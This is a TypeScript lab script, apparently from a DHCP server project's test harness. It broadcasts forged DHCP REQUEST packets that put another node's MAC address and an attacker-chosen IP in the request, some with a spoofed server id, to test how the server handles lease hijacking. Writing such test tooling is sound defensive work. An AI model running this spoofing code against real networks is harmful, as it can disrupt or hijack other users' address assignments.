// The lab attacker's DHCP half (server/lab/attacker.ts), run inside the
// attacker's namespace: COUNT broadcast REQUESTs that put a node's MAC in chaddr
// and the attacker's own address in option 50, one SELECTING (server id set, no
// OFFER before it) and one without a server id, every INTERVAL ms. Prints
// {"sent":N,"sendErrors":N} when done.
//   forged-dhcp-main.ts SERVER MAC ADDRESS COUNT INTERVAL_MS
import dgram from 'node:dgram';
import { randomBytes } from 'node:crypto';
import { BOOTREQUEST, encodePacket, type DhcpPacket } from '../dhcp/codec/packet.js';
import { MessageType, Opt } from '../dhcp/codec/options.js';
import { ipv4ToBuffer } from '../util/ipv4.js';

const [server = '', macText = '', address = '', countText = '5', intervalText = '1000'] = process.argv.slice(2);
const mac = Buffer.from(macText.replace(/[:-]/g, ''), 'hex');
if (mac.length !== 6 || !/^\d+\.\d+\.\d+\.\d+$/.test(address) || !/^\d+\.\d+\.\d+\.\d+$/.test(server)) {
  process.stderr.write('usage: forged-dhcp-main.ts SERVER MAC ADDRESS COUNT INTERVAL_MS\n');
  process.exit(2);
}

/** A REQUEST claiming `address` for `mac`; with `serverId`, as if answering an OFFER that never came. */
function forgedRequest(forMac: Buffer, claimed: string, serverId: string | undefined): Buffer {
  const options = new Map<number, Buffer>([
    [Opt.MESSAGE_TYPE, Buffer.of(MessageType.REQUEST)],
    [Opt.REQUESTED_IP, ipv4ToBuffer(claimed)],
  ]);
  if (serverId) options.set(Opt.SERVER_ID, ipv4ToBuffer(serverId));
  const packet: DhcpPacket = {
    op: BOOTREQUEST,
    htype: 1,
    hlen: 6,
    hops: 0,
    xid: randomBytes(4).readUInt32BE(0),
    secs: 0,
    flags: 0x8000,
    ciaddr: '0.0.0.0',
    yiaddr: '0.0.0.0',
    siaddr: '0.0.0.0',
    giaddr: '0.0.0.0',
    chaddr: forMac,
    sname: '',
    file: '',
    options,
  };
  return encodePacket(packet).buffer;
}

const socket = dgram.createSocket({ type: 'udp4', reuseAddr: true });
let sent = 0;
let sendErrors = 0;
const send = (datagram: Buffer) =>
  new Promise<void>((resolve) => {
    socket.send(datagram, 67, '255.255.255.255', (err) => {
      if (err) sendErrors++;
      else sent++;
      resolve();
    });
  });
socket.on('error', (err) => {
  process.stderr.write(`forged-dhcp: ${err.message}\n`);
  process.exit(1);
});
socket.bind(68, () => {
  socket.setBroadcast(true);
  void (async () => {
    for (let i = 0; i < Number(countText); i++) {
      await send(forgedRequest(mac, address, server));
      await send(forgedRequest(mac, address, undefined));
      await new Promise((r) => setTimeout(r, Number(intervalText)));
    }
    process.stdout.write(`${JSON.stringify({ sent, sendErrors })}\n`);
    socket.close();
  })();
});
